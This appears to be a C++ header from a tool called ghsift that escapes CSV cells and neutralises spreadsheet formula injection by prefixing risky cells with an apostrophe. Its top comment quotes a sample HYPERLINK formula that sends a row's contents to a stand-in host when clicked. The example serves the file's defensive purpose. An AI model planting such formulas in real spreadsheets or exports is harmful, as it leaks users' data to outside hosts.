#pragma once
// CSV cells (RFC 4180): a cell holding a comma, a quote or a line break is quoted, with its
// quotes doubled. One definition for every CSV ghsift writes, so that the query's CSV and a
// report's CSV of the same table are byte for byte the same.
//
// A spreadsheet opening the file takes a cell starting with = + - @ (or a tab or CR) for a
// formula, and report text is anyone's: a title `=HYPERLINK("http://x/?"&B2, "see")` would send
// the row's text away when clicked. Such a cell that is no number is written with a leading
// apostrophe, which spreadsheets show as text; ghsift's own readers (CsvCellText: `rules eval
// --labels`, the Python module) take it off again. A cell that already starts with apostrophes
// before such a character gains one more, so that every cell reads back as it was.
#include <string>
#include <string_view>

namespace ghsift {

namespace csv_detail {

inline bool StartsFormula(char c) { return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r'; }

//! [-+]digits[.digits][e[-+]digits]: a number a spreadsheet reads as one, left as it is.
inline bool IsPlainNumber(std::string_view s) {
  size_t i = 0;
  if (i < s.size() && (s[i] == '-' || s[i] == '+')) ++i;
  const auto digits = [&] {
    const size_t from = i;
    while (i < s.size() && s[i] >= '0' && s[i] <= '9') ++i;
    return i > from;
  };
  if (!digits()) return false;
  if (i < s.size() && s[i] == '.' && (++i, !digits())) return false;
  if (i < s.size() && (s[i] == 'e' || s[i] == 'E')) {
    ++i;
    if (i < s.size() && (s[i] == '-' || s[i] == '+')) ++i;
    if (!digits()) return false;
  }
  return i == s.size();
}

//! Whether `s` is apostrophes (any number, none too) and then a formula's first character.
inline bool IsFormulaAfterApostrophes(std::string_view s) {
  const size_t first = s.find_first_not_of('\'');
  return first != std::string_view::npos && StartsFormula(s[first]);
}

}  // namespace csv_detail

//! Whether a cell is written with a leading apostrophe (see the file's comment).
inline bool CsvCellNeedsGuard(std::string_view s) {
  return csv_detail::IsFormulaAfterApostrophes(s) && !csv_detail::IsPlainNumber(s);
}

inline void AppendCsvField(std::string& out, std::string_view s) {
  const bool guard = CsvCellNeedsGuard(s);
  if (s.find_first_of(",\"\n\r") == std::string_view::npos) {
    if (guard) out.push_back('\'');
    out.append(s);
    return;
  }
  out.push_back('"');
  if (guard) out.push_back('\'');
  for (const char c : s) {
    if (c == '"') out.push_back('"');
    out.push_back(c);
  }
  out.push_back('"');
}

inline std::string CsvField(std::string_view s) {
  std::string out;
  AppendCsvField(out, s);
  return out;
}

//! A cell's text as written before AppendCsvField's guard: one leading apostrophe taken off a
//! cell of apostrophes and then a formula's first character.
inline std::string CsvCellText(std::string cell) {
  if (!cell.empty() && cell[0] == '\'' && csv_detail::IsFormulaAfterApostrophes(cell)) cell.erase(0, 1);
  return cell;
}

}  // namespace ghsift
